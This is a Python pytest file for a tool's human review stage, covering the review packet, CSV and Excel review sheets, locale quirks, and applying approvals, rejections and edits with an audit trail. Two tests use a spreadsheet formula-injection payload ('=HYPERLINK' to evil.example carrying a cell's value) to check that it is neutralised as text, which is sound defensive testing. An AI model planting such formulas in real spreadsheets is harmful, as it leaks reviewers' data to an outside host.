"""The review packet, the review sheet and applying decisions: domain logic, no Prefect server."""

from __future__ import annotations

import datetime as dt
from decimal import Decimal
from pathlib import Path

import numpy as np
import pandas as pd
import pytest

from augment_it.errors import UserInputError
from augment_it.output_types import output_specs
from augment_it.packet import packet_rows, packet_summary
from augment_it.review import (
    RecordEdit,
    ReviewInput,
    ReviewRequest,
    apply_decision,
    auto_decision,
    decision_problems,
    expired_decision,
    human_decision,
    split_by_score,
)
from augment_it.sheet import cell, read_edits, read_sheet, review_sheet, sheet_changes, sheet_csv

OUTPUTS = ["summary", "industry"]


@pytest.fixture
def frame() -> pd.DataFrame:
    return pd.DataFrame({
        "_id": ["a", "b", "c", "d"],
        "name": ["Acme", "Borealis", "Cobalt", "Delta"],
        "employees": [120, 45, 12, 300],
        "summary": ["Robots.", "Berries.", None, "Teeth."],
        "industry": ["robotics", "food", None, "health"],
        "quality_score": [0.9, 0.55, 0.3, 0.75],
        "_ai_status": ["ok", "ok", "ok", "failed"],
        "_reason": ["", "", "", "model said no"],
    })


def request_for(frame: pd.DataFrame, approve_above: float | None = None) -> ReviewRequest:
    auto, human = split_by_score(frame, approve_above)
    return ReviewRequest(flow_run_id="run-1", to_review=human, auto_approved=auto,
                         approve_above=approve_above, output_fields=OUTPUTS,
                         sheet="/runs/x/.augment/review/sheet.csv", timeout_seconds=60)


def test_packet_puts_flagged_records_first_and_links_the_full_sheet(frame: pd.DataFrame) -> None:
    rows = packet_rows(frame, OUTPUTS)
    assert [r["id"] for r in rows] == ["c", "b", "a"]  # failed d is not reviewable; c is flagged
    assert rows[0]["flags"] == "empty output: summary, industry, low score"
    assert rows[1]["flags"] == "" and rows[2]["flags"] == ""
    summary = packet_summary(frame, rows, request_for(frame))
    assert "**3** records to review, **1** flagged; **1** failed" in summary
    assert "[/runs/x/.augment/review/sheet.csv](file:///runs/x/.augment/review/sheet.csv)" in summary
    assert "| id | name | summary | industry | quality_score | flags |" in summary  # narrow for the form
    assert "- `d`: model said no" in summary


def test_approve_above_sends_only_the_rest_to_a_human(frame: pd.DataFrame) -> None:
    assert split_by_score(frame, 0.7) == (["a"], ["b", "c"])
    request = request_for(frame, 0.7)
    assert [r["id"] for r in packet_rows(frame, OUTPUTS, request.to_review)] == ["c", "b"]
    decision = human_decision(ReviewInput(reject_ids=["c"], reviewer="Grace", comment="empty"), request)
    reviewed, audit = apply_decision(frame, decision)
    by_id = reviewed.set_index("_id")
    assert by_id.loc["a", "review_status"] == "approved" and by_id.loc["a", "reviewed_by"] == "auto"
    assert by_id.loc["b", "review_status"] == "approved" and by_id.loc["b", "reviewed_by"] == "Grace"
    assert by_id.loc["c", "review_status"] == "rejected" and by_id.loc["c", "review_comment"] == "empty"
    assert {row["id"]: row["source"] for row in audit} == {"a": "auto", "b": "human", "c": "human"}


def test_auto_policy_with_a_threshold_rejects_the_rest(frame: pd.DataFrame) -> None:
    reviewed, _ = apply_decision(frame, auto_decision(frame, 0.7))
    assert dict(zip(reviewed["_id"], reviewed["review_status"], strict=True)) == {
        "a": "approved", "b": "rejected", "c": "rejected"}


@pytest.mark.parametrize(("outcome", "status"), [("reject-all", "rejected"), ("approve-all", "approved")])
def test_an_expired_review_applies_the_chosen_outcome(frame: pd.DataFrame, outcome: str, status: str) -> None:
    request = request_for(frame, 0.7).model_copy(update={"timeout_outcome": outcome})
    reviewed, _ = apply_decision(frame, expired_decision(request))
    by_id = reviewed.set_index("_id")
    assert by_id.loc["a", "review_status"] == "approved"  # decided by score, not waiting for anyone
    assert set(by_id.loc[["b", "c"], "review_status"]) == {status}
    assert set(by_id.loc[["b", "c"], "reviewed_by"]) == {"(review expired)"}


def test_edits_keep_the_field_type_and_the_audit_has_before_and_after(frame: pd.DataFrame) -> None:
    given = ReviewInput(reviewer="Ada", edits=[RecordEdit(id="b", field="employees", value="50"),
                                               RecordEdit(id="c", field="summary", value="Dashboards.")])
    assert decision_problems(given, frame) == []
    reviewed, audit = apply_decision(frame, human_decision(given, request_for(frame)))
    by_id = reviewed.set_index("_id")
    assert by_id.loc["b", "employees"] == 50 and pd.api.types.is_integer_dtype(reviewed["employees"])
    assert by_id.loc["c", "summary"] == "Dashboards."
    edits = [row for row in audit if row["action"] == "edit"]
    assert edits == [
        {"id": "b", "action": "edit", "field": "employees", "before": 45, "after": 50, "reviewer": "Ada",
         "source": "human", "at": edits[0]["at"]},
        {"id": "c", "action": "edit", "field": "summary", "before": None, "after": "Dashboards.",
         "reviewer": "Ada", "source": "human", "at": edits[0]["at"]},
    ]


def test_problems_name_unknown_ids_fields_and_values_that_do_not_fit(frame: pd.DataFrame) -> None:
    given = ReviewInput(reviewer="Ada", reject_ids=["zz", "d"],
                        edits=[RecordEdit(id="a", field="colour", value="red"),
                               RecordEdit(id="a", field="employees", value="many"),
                               RecordEdit(id="q", field="name", value="Q")])
    problems = decision_problems(given, frame)
    assert problems[:2] == ["unknown id 'zz' in reject_ids", "unknown id 'd' in reject_ids"]  # d failed
    assert problems[2].startswith("record field 'colour' does not exist (edits may change: employees, ")
    assert problems[3] == "'many' is not a valid int64 for field 'employees' of record 'a'"
    assert problems[4] == "unknown id 'q' in edits"


def test_an_unchanged_sheet_means_approve_all_and_changed_cells_become_edits(frame: pd.DataFrame) -> None:
    text = sheet_csv(review_sheet(frame, OUTPUTS))
    # The byte order mark makes Excel read the sheet as UTF-8 rather than its legacy code page.
    assert text.splitlines()[0] == "\ufeffid,decision,name,employees,summary,industry,quality_score,flags"
    untouched = sheet_changes(read_sheet(text), frame)
    assert untouched.reject_ids == [] and untouched.edits == [] and untouched.problems == []

    sheet = read_sheet(text.encode())
    sheet.loc[sheet["id"] == "c", "decision"] = "Reject"
    sheet.loc[sheet["id"] == "a", "industry"] = "warehouse robotics"
    sheet.loc[sheet["id"] == "b", "quality_score"] = "0.550"  # reformatted, same number
    sheet.loc[sheet["id"] == "b", "flags"] = "looked at it"  # read-only column: ignored
    changes = sheet_changes(sheet, frame)
    assert changes.problems == []
    assert changes.reject_ids == ["c"]
    assert changes.edits == [RecordEdit(id="a", field="industry", value="warehouse robotics")]


def test_a_sheet_saved_by_a_spreadsheet_in_another_locale_reads_the_same(frame: pd.DataFrame) -> None:
    frame.loc[frame["_id"] == "a", "name"] = "Acmé"
    text = sheet_csv(review_sheet(frame, OUTPUTS)).lstrip("\ufeff")
    # Excel with a decimal comma: `;` between cells, 0,55 for 0.55; "Unicode Text": UTF-16, tabs.
    semicolons = text.replace(",", ";").replace("0.55", "0,55").replace("0.9", "0,9").replace("0.3", "0,3")
    saved = {"semicolons": ("\ufeff" + semicolons).encode(),
             "sep= line": ("sep=;\n" + semicolons).encode(),
             "unicode text": ("\ufeff" + text.replace(",", "\t")).encode("utf-16-le")}
    for how, data in saved.items():
        untouched = sheet_changes(read_sheet(data), frame)
        assert (untouched.reject_ids, untouched.edits, untouched.problems) == ([], [], []), how

    edited = semicolons.replace("c;approve", "c;reject").replace("Robots.", "Robots, mostly.")
    changes = sheet_changes(read_sheet(edited.encode()), frame)
    assert changes.problems == [] and changes.reject_ids == ["c"]
    assert changes.edits == [RecordEdit(id="a", field="summary", value="Robots, mostly.")]

    # Excel's plain "CSV" is the legacy code page: refused, naming the line, not read as other text.
    with pytest.raises(UserInputError, match=r"not UTF-8 \(line \d: byte 0xe9\); save it as \"CSV UTF-8\""):
        read_sheet(text.encode("cp1252"))


def test_what_a_spreadsheet_rewrites_on_saving_is_no_edit() -> None:
    """Excel opens the sheet, takes dates, long numbers and booleans for its own types and saves
    them its way: each such cell became an edit, and the record's value the spreadsheet's text."""
    frame = pd.DataFrame({
        "_id": ["a"], "founded": ["2001-02-03"], "updated": ["2024-05-06 07:08:09"], "opens": ["21:00:00"],
        "phone": ["123456789012"], "zip": ["02134"], "listed": ["true"], "margin": ["3.5"],
        "summary": ["Robots."], "quality_score": [0.9], "_ai_status": ["ok"], "_reason": [""],
    })
    text = sheet_csv(review_sheet(frame, ["summary"], key_limit=7))
    assert text.splitlines()[1] == ("a,approve,2001-02-03,2024-05-06 07:08:09,21:00:00,123456789012,02134,"
                                    "true,3.5,Robots.,0.9,")
    header = text.splitlines()[0]
    saved_by = {  # each row as Excel saves it back, in the US and in Germany
        "en-US": "a,approve,2/3/2001,5/6/2024 7:08,9:00:00 PM,1.23457E+11,2134,TRUE,3.5,Robots.,0.9,",
        "de-DE": "a;approve;03.02.2001;06.05.2024 07:08;21:00:00;1,23457E+11;2134;WAHR;3,5;Robots.;0,9;",
    }
    for locale, row in saved_by.items():
        delimiter = ";" if ";" in row else ","
        sheet = read_sheet(header.replace(",", delimiter) + "\n" + row + "\n")
        changes = sheet_changes(sheet, frame)
        assert (changes.edits, changes.problems) == ([], []), locale
    edited = "a,approve,2/4/2001,5/6/2024 7:09,9:00:00 AM,1.23458E+11,2135,FALSE,3.6,robots.,0.9,"
    changes = sheet_changes(read_sheet(header + "\n" + edited + "\n"), frame)
    assert [(e.field, e.value) for e in changes.edits] == [
        ("founded", "2/4/2001"), ("updated", "5/6/2024 7:09"), ("opens", "9:00:00 AM"),
        ("phone", "1.23458E+11"), ("zip", "2135"), ("listed", "FALSE"), ("margin", "3.6"),
        ("summary", "robots.")]
    cleared = "a,approve,,,,,,,,Robots.,0.9,"
    assert len(sheet_changes(read_sheet(header + "\n" + cleared + "\n"), frame).edits) == 7
    frame["summary"] = None  # filled in where the model gave nothing
    filled = sheet_csv(review_sheet(frame, ["summary"], key_limit=7)).replace(",,0.9", ",Robots.,0.9")
    edits = sheet_changes(read_sheet(filled), frame).edits
    assert [(e.field, e.value) for e in edits] == [("summary", "Robots.")]


def test_ids_a_spreadsheet_rewrote_as_numbers_still_find_their_records() -> None:
    """Content ids are hex: one in a thousand or so is digits alone, or digits and one `e`, which
    Excel takes for a number (and an id column of digits loses its leading zeros). Each such row
    stopped the whole sheet with "unknown id"."""
    frame = pd.DataFrame({"_id": ["0012", "8675309123456789", "12e4", "8675309999999999"],
                          "summary": ["a", "b", "c", "d"], "quality_score": [0.5] * 4,
                          "_ai_status": ["ok"] * 4, "_reason": [""] * 4})
    saved = ("id,decision,summary\n12,reject,a\n8.67531E+15,approve,b!\n1.20E+05,reject,c\n"
             "8.67531E+15,approve,d\n")
    changes = sheet_changes(read_sheet(saved), frame)
    assert changes.reject_ids == ["0012", "12e4"]
    assert changes.problems == ["row 3: id '8.67531E+15' is how a spreadsheet rounds the ids of 2 records: "
                                "format the id column as text and save again",
                                "row 5: id '8.67531E+15' is how a spreadsheet rounds the ids of 2 records: "
                                "format the id column as text and save again"]
    frame = frame.iloc[:3]
    changes = sheet_changes(read_sheet(saved.replace("8.67531E+15,approve,d\n", "")), frame)
    assert changes.problems == [] and changes.reject_ids == ["0012", "12e4"]
    assert changes.edits == [RecordEdit(id="8675309123456789", field="summary", value="b!")]


def test_a_sheet_saved_as_an_excel_workbook_reads_as_its_csv_would(tmp_path: Path) -> None:
    """Excel offers .xlsx when the sheet is saved; its cells then hold Excel's own types."""
    import openpyxl

    frame = pd.DataFrame({
        "_id": ["a", "b"], "founded": ["2001-02-03", "1999-12-31"], "phone": ["123456789012", "42"],
        "listed": ["true", "false"], "summary": ["Robots.", "Berries."], "quality_score": [0.9, 0.4],
        "_ai_status": ["ok", "ok"], "_reason": ["", ""],
    })
    header = list(review_sheet(frame, ["summary"], key_limit=3).columns)
    book = openpyxl.Workbook()
    book.active.append(header)
    book.active.append(["a", "approve", dt.datetime(2001, 2, 3), 123456789012, True, "Robots, mostly.", 0.9,
                        None])
    book.active.append(["b", "reject", dt.datetime(1999, 12, 31), 42, False, "Berries.", 0.4, None])
    book.save(tmp_path / "sheet.xlsx")
    changes = read_edits(str(tmp_path / "sheet.xlsx"), frame)
    assert (changes.reject_ids, changes.problems) == (["b"], [])
    assert changes.edits == [RecordEdit(id="a", field="summary", value="Robots, mostly.")]


def test_a_workbook_sheet_holds_every_cell_as_text_and_reads_back_unchanged(tmp_path: Path) -> None:
    import openpyxl

    from augment_it.sheet import write_sheet_workbook

    frame = pd.DataFrame({
        "_id": ["8675309123456789", "0012"], "founded": ["2001-02-03", "1999-12-31"],
        "summary": ['=HYPERLINK("https://evil.example")', "Berries."], "quality_score": [0.9, 0.4],
        "_ai_status": ["ok", "ok"], "_reason": ["", ""],
    })
    path = str(tmp_path / "sheet.xlsx")
    write_sheet_workbook(review_sheet(frame, ["summary"]), path)
    untouched = read_edits(path, frame)
    assert (untouched.reject_ids, untouched.edits, untouched.problems) == ([], [], [])
    book = openpyxl.load_workbook(path)
    cells = {c.value: c.data_type for row in book.active.iter_rows() for c in row if c.value is not None}
    assert set(cells.values()) == {"s"} and "8675309123456789" in cells and "0012" in cells
    rows = {row[0].value: row for row in book.active.iter_rows(min_row=2)}  # id, decision, founded, summary
    rows["0012"][1].value = "reject"  # as a reviewer fills it in
    rows["8675309123456789"][3].value = "Nothing to see."
    book.save(path)
    changes = read_edits(path, frame)
    assert changes.reject_ids == ["0012"] and changes.problems == []
    assert changes.edits == [RecordEdit(id="8675309123456789", field="summary", value="Nothing to see.")]


def test_an_answer_that_a_spreadsheet_would_run_as_a_formula_is_written_as_text(frame: pd.DataFrame) -> None:
    leak = '=HYPERLINK("https://evil.example/?"&C2,"details")'
    frame.loc[frame["_id"] == "a", "summary"] = leak
    frame.loc[frame["_id"] == "b", "summary"] = "-- no summary --"
    frame.loc[frame["_id"] == "b", "employees"] = -3
    text = sheet_csv(review_sheet(frame, OUTPUTS))
    rows = {line.split(",")[0]: line for line in text.lstrip("\ufeff").splitlines()}
    assert "'=HYPERLINK(" in rows["a"] and "'-- no summary --" in rows["b"]
    assert ",-3," in rows["b"]  # a number stays a number
    untouched = sheet_changes(read_sheet(text), frame)
    assert (untouched.reject_ids, untouched.edits, untouched.problems) == ([], [], [])


def test_a_records_own_id_or_decision_field_does_not_stand_in_the_sheets_columns(frame: pd.DataFrame) -> None:
    """A source with an `id` column (ids from content unless --id-column names it) showed that id
    in the packet and sheet, so every decision named unknown ids; a `decision` field rejected."""
    frame.insert(1, "id", ["001", "002", "003", "004"])
    frame.insert(2, "decision", ["reject", "no", "reject", "no"])
    rows = packet_rows(frame, OUTPUTS)
    assert [r["id"] for r in rows] == ["c", "b", "a"] and "decision" not in rows[0]
    untouched = sheet_changes(read_sheet(sheet_csv(review_sheet(frame, OUTPUTS))), frame)
    assert (untouched.reject_ids, untouched.edits, untouched.problems) == ([], [], [])


def test_an_unknown_id_that_is_a_records_own_field_value_names_that_records_id(frame: pd.DataFrame) -> None:
    """Records from a source with its own `id` field have content ids unless --id-column names it:
    `--reject 002` (the id the reviewer knows) was refused as an unknown id, saying no more."""
    frame.insert(1, "id", ["001", "002", "003", "002x"])
    given = ReviewInput(reviewer="Ada", reject_ids=["002", "Acme", "nowhere"])
    assert decision_problems(given, frame) == [
        "unknown id '002' in reject_ids: the record whose field 'id' is '002' has the id 'b' (records are "
        "named by the ids `augment review show` lists; --id-column makes a field of yours the ids)",
        "unknown id 'Acme' in reject_ids: the record whose field 'name' is 'Acme' has the id 'a' (records "
        "are named by the ids `augment review show` lists; --id-column makes a field of yours the ids)",
        "unknown id 'nowhere' in reject_ids"]


def test_the_packet_shows_lists_and_mappings_as_json(frame: pd.DataFrame) -> None:
    """Stage files give lists and mappings back as such; the UI table and `review show` got
    Python's repr ({'city': 'Oslo'}) or nothing readable."""
    frame.insert(2, "address", [{"city": "Oslo"}, {}, None, {"city": "Bergen"}])
    rows = {r["id"]: r for r in packet_rows(frame, OUTPUTS)}
    assert rows["a"]["address"] == '{"city": "Oslo"}' and rows["b"]["address"] == "{}"


def test_an_edit_of_a_list_field_is_read_as_the_json_the_sheet_shows(frame: pd.DataFrame) -> None:
    """A list output edited in the sheet was stored as its text, '["robots"]' in place of a list."""
    frame["tags"] = [["robots"], ["food"], [], ["teeth"]]
    text = sheet_csv(review_sheet(frame, [*OUTPUTS, "tags"]))
    assert '"[""robots""]"' in text
    edited = sheet_changes(read_sheet(text.replace('"[""robots""]"', '"[""robots"", ""retail""]"')), frame)
    decision = human_decision(ReviewInput(reviewer="Ada", edits=edited.edits), request_for(frame))
    assert decision_problems(decision, frame) == []
    reviewed, audit = apply_decision(frame, decision)
    assert reviewed.set_index("_id").at["a", "tags"] == ["robots", "retail"]
    assert audit[0]["before"] == ["robots"] and audit[0]["after"] == ["robots", "retail"]

    # Typed as a spreadsheet user would: items between commas, for a list of text.
    edits = [RecordEdit(id="a", field="tags", value="robots, retail"),
             RecordEdit(id="b", field="tags", value="food")]
    typed = human_decision(ReviewInput(reviewer="Ada", edits=edits), request_for(frame))
    assert decision_problems(typed, frame) == []
    reviewed = apply_decision(frame, typed)[0].set_index("_id")
    assert reviewed.at["a", "tags"] == ["robots", "retail"] and reviewed.at["b", "tags"] == ["food"]
    # A list of numbers is not split into text: it takes JSON only.
    frame["sizes"] = [[1, 2], [3], [], [4]]
    numbers = ReviewInput(reviewer="Ada", edits=[RecordEdit(id="a", field="sizes", value="1, 5")])
    assert decision_problems(numbers, frame) == [
        "'1, 5' is not a valid JSON list ([1, 2]) for field 'sizes' of record 'a'"]


def test_an_edit_of_a_labelled_field_must_name_its_labels(frame: pd.DataFrame) -> None:
    """A field the template answers with labels took any text a reviewer typed, so a typo
    ('robotic') went out as a category of its own."""
    specs = output_specs({"industry": ["robotics", "food"], "topics": "list[price, staff]"})
    frame["topics"] = None  # no answers yet (no model ran): the declared type says it holds lists
    edits = [RecordEdit(id=record_id, field=field, value=value) for record_id, field, value in (
        ("a", "industry", "Food "), ("b", "industry", ""), ("a", "topics", "Staff, price, staff"),
        ("c", "industry", "robotic"), ("c", "topics", "staff, wages"))]
    given = ReviewInput(reviewer="Ada", edits=edits)
    assert decision_problems(given, frame, specs=specs) == [
        "'robotic' is not a label of field 'industry' (record 'c'): use one of robotics, food, "
        "or leave it blank",
        "'staff, wages' is not a list of labels of field 'topics' (record 'c'): use any of price, staff, "
        "or leave it blank"]
    assert decision_problems(given, frame) == []  # fields of free text take them
    # The form says what such an edit may name, before a reviewer types one.
    request = request_for(frame).model_copy(update={"output_types": {"industry": ["robotics", "food"],
                                                                     "topics": "list[price, staff]"}})
    assert ("An edit of a field of labels names them (`industry` one of: robotics, food; `topics` any of: "
            "price, staff), a list's between commas; a blank one clears the field.") in packet_summary(
        frame, packet_rows(frame, OUTPUTS), request)
    fixed = human_decision(ReviewInput(reviewer="Ada", edits=edits[:3]), request_for(frame))
    reviewed = apply_decision(frame, fixed, specs)[0].set_index("_id")
    assert reviewed.at["a", "industry"] == "food" and pd.isna(reviewed.at["b", "industry"])
    assert reviewed.at["a", "topics"] == ["staff", "price"]


def test_a_sheet_with_unknown_rows_columns_or_decisions_is_refused(frame: pd.DataFrame) -> None:
    sheet = read_sheet(sheet_csv(review_sheet(frame, OUTPUTS)))
    sheet["colour"] = ""
    sheet.loc[sheet["id"] == "a", "decision"] = "maybe"
    sheet.loc[len(sheet)] = {**sheet.iloc[0].to_dict(), "id": "nope"}
    problems = sheet_changes(sheet, frame).problems
    assert "sheet column 'colour' is not a record field that can be edited" in problems
    assert any("decision 'maybe' is neither approve nor reject" in p for p in problems)
    assert "row 5: unknown id 'nope'" in problems


def test_sheet_cells_show_values_as_the_exports_write_them(frame: pd.DataFrame) -> None:
    """Times in ISO 8601, numpy numbers as numbers and NaN as null, inside lists and mappings too."""
    shown = {
        pd.Timestamp("2024-01-05 10:00", tz="UTC"): "2024-01-05T10:00:00+00:00",
        dt.datetime(2024, 1, 5, 10): "2024-01-05T10:00:00",
        Decimal("1.10"): "1.10",
        np.float64("nan"): "",
        np.int64(7): "7",
        3.0: "3",
        True: "true",
    }
    assert [cell(value) for value in shown] == list(shown.values())
    assert cell([np.float64("nan"), dt.datetime(2024, 1, 5, 10)]) == '[null, "2024-01-05T10:00:00"]'
    assert cell({"n": np.int64(2), "price": Decimal("1.10")}) == '{"n": 2, "price": "1.10"}'
    assert cell(np.array([1, 2])) == "[1, 2]"
    # An unchanged sheet still reads back as no edits.
    founded = frame.assign(founded=pd.to_datetime(["2001-02-03 04:05:06"] * 4))
    text = sheet_csv(review_sheet(founded, OUTPUTS))
    assert "2001-02-03T04:05:06" in text
    untouched = sheet_changes(read_sheet(text), founded)
    assert untouched.edits == [] and untouched.problems == []
